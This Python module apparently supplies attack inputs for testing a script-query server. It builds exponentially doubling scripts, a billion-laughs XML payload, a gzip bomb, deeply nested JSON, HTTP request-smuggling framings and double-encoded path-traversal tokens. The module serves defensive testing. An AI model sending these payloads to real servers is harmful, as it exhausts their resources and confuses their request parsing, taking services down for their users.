"""What attackers send: scripts, requests and bodies. Pure: the same texts in every run."""

import json
import urllib.parse
import zlib

# The length of the script that once ended a server.
SCRIPT_BYTES = 548
DOUBLINGS = 26
MEBIBYTE = 1 << 20


def doubled(line, result="a{n}", start='a0="xxxxxxxxxx"', size=SCRIPT_BYTES):
    """A script that doubles a value in each line, as long as `size` bytes allow; `line` has `{n}` and `{before}`."""
    lines, number = [start], 0
    while True:
        following = line.replace("{n}", str(number + 1)).replace("{before}", str(number))
        end = f"return {result}".replace("{n}", str(number + 1))
        if len("\n".join([*lines, following, end])) > size:
            return "\n".join([*lines, f"return {result}".replace("{n}", str(number))])
        lines.append(following)
        number += 1


def doubled_texts(size=SCRIPT_BYTES):
    return doubled('a{n}="{a{before}}{a{before}}"', size=size)


def doubled_lists(size=SCRIPT_BYTES):
    return doubled('a{n}=["{a{before}}","{a{before}}"]', size=size)


def doubled_objects(size=SCRIPT_BYTES):
    return doubled('a{n}={"l":"{a{before}}","r":"{a{before}}"}', size=size)


def doubled_json(size=SCRIPT_BYTES):
    """Structures inside of texts are written as JSON, and escaped once more in each line."""
    return doubled('a{n}=["{a{before}} {a{before}}"]', start='a0=["\\""]', size=size)


def doubled_into(statement, doublings=DOUBLINGS):
    """A text of ten bytes, doubled so often, in the `{text}` of a statement."""
    lines = ['a0="xxxxxxxxxx"', *(f'a{n + 1}="{{a{n}}}{{a{n}}}"' for n in range(doublings))]
    return "\n".join([*lines, statement.replace("{text}", f"{{a{doublings}}}")])


def request(method, target, host, headers=(), body=b""):
    """An HTTP/1.1 request as bytes."""
    lines = [f"{method} {target} HTTP/1.1", f"host: {host}", *(f"{name}: {value}" for name, value in headers)]
    if body:
        lines.append(f"content-length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode() + body


def script_request(script, host, headers=()):
    """A script for `/q`, as a form."""
    body = urllib.parse.urlencode({"s": script}).encode()
    return request("POST", "/q", host, [("content-type", "application/x-www-form-urlencoded"), *headers], body)


def script_target(script):
    """The same in a query."""
    return f"/q?{urllib.parse.urlencode({'s': script})}"


HANDSHAKE = [
    ("connection", "Upgrade"),
    ("upgrade", "websocket"),
    ("sec-websocket-version", "13"),
    ("sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="),
    ("sec-websocket-protocol", "ql.io-console"),
]


def frame(text):
    """A text frame of a client. Its mask is zero, so that the text stands as it is."""
    payload = text.encode()
    length = len(payload)
    if length < 126:
        head = bytes([0x81, 0x80 | length])
    elif length < 1 << 16:
        head = bytes([0x81, 0x80 | 126]) + length.to_bytes(2, "big")
    else:
        head = bytes([0x81, 0x80 | 127]) + length.to_bytes(8, "big")
    return head + bytes(4) + payload


def session(size):
    """A message that begins a script step by step, with a text of so many bytes; it is never asked for the next step."""
    script = f'__debug__a = "{"x" * size}"\nb = "{{a}}"\nreturn b'
    return frame(json.dumps({"type": "script", "data": script}))


def rows(count, kind):
    """An answer of so many rows: with equal keys, with keys that differ, or with few first keys and different second ones."""
    key = {"equal": lambda n: 1, "different": lambda n: n, "few": lambda n: n % 4}[kind]
    return json.dumps([{"k": key(n), "v": n} for n in range(count)], separators=(",", ":")).encode()


def large_json(size=10 * 1000 * 1000):
    """Rows of about so many bytes, less rather than more."""
    row = b'{"id":1234567,"name":"lantern of brass with a handle","price":12.5,"tags":["a","b"]}'
    return b"[" + b",".join([row] * (size // (len(row) + 1) - 1)) + b"]"


def large_xml(size=10 * 1000 * 1000):
    row = b"<item id='7'><name>lantern &amp; handle</name><price>12.5</price><tag>a</tag><tag>b</tag></item>"
    return b"<items>" + row * (size // len(row) - 1) + b"</items>"


def deep_json(depth=1_000_000):
    return b"[" * depth + b"]" * depth


def laughing_xml(levels=12):
    """Entities that name ten others each."""
    names = [f"l{level}" for level in range(levels)]
    entities = [f'<!ENTITY {names[0]} "lol">']
    entities += [f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip(names, names[1:])]
    return f"<!DOCTYPE items [{''.join(entities)}]><items><item>&{names[-1]};</item></items>".encode()


def bomb(packed=10 * 1000 * 1000, unpacked=1000 * 1000 * 1000):
    """A gzip stream of about `packed` bytes that gives `unpacked` bytes of JSON text.

    A part that was flushed can be repeated as it is, so that only one part has to be compressed.
    """
    part = 1000 * 1000
    parts = unpacked // part
    # What does not compress, written with sixteen different bytes, takes half of its length.
    noise = packed // parts * 2
    state, text = 1, bytearray()
    while len(text) < noise:
        state = state * 6364136223846793005 + 1442695040888963407 & (1 << 64) - 1
        text += f"{state >> 32:08x}".encode()
    text = bytes(text[:noise]) + b" " * (part - noise)
    packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = packer.compress(text) + packer.flush(zlib.Z_FULL_FLUSH)
    # One more piece closes the stream; it has the quotes that make all of it one text.
    opening, closing = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS), zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = opening.compress(b'"') + opening.flush(zlib.Z_FULL_FLUSH)
    last = closing.compress(b'"') + closing.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(b'"')
    for _ in range(parts):
        checksum = zlib.crc32(text, checksum)
    checksum = zlib.crc32(b'"', checksum)
    trailer = checksum.to_bytes(4, "little") + (parts * part + 2 & 0xFFFFFFFF).to_bytes(4, "little")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + first + piece * parts + last + trailer


# Requests that can be understood in two ways, or not at all, and what they are. `HOST` is the server's own.
FRAMINGS = {
    "two equal lengths": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ncontent-length: 2\r\ncontent-length: 2\r\n\r\n{}",
    "two lengths": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ncontent-length: 2\r\ncontent-length: 5\r\n\r\n{}",
    "a list of lengths": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ncontent-length: 2, 2\r\n\r\n{}",
    "a length and chunks": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunked twice": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ntransfer-encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    "chunked in two lines": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ntransfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "an unknown coding": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ntransfer-encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "a signed length": b"POST /posted HTTP/1.1\r\nhost: HOST\r\ncontent-length: +2\r\n\r\n{}",
    "no host": b"GET /cheap?id=1 HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /cheap?id=1 HTTP/1.1\r\nhost: HOST\r\nhost: HOST\r\n\r\n",
    "an empty host": b"GET /cheap?id=1 HTTP/1.1\r\nhost:\r\n\r\n",
    "a host that is none": b"GET /cheap?id=1 HTTP/1.1\r\nhost: a b/c?d\r\n\r\n",
    "a bare line feed": b"GET /cheap?id=1 HTTP/1.1\nhost: HOST\n\n",
    "a blank before a colon": b"GET /cheap?id=1 HTTP/1.1\r\nhost : HOST\r\n\r\n",
}

# Values of a token in a path that lead elsewhere, as they stand in the query of the client's request.
DOT_SEGMENTS = (".", "..", "%252e%252e", "%252E.", ".%252e")
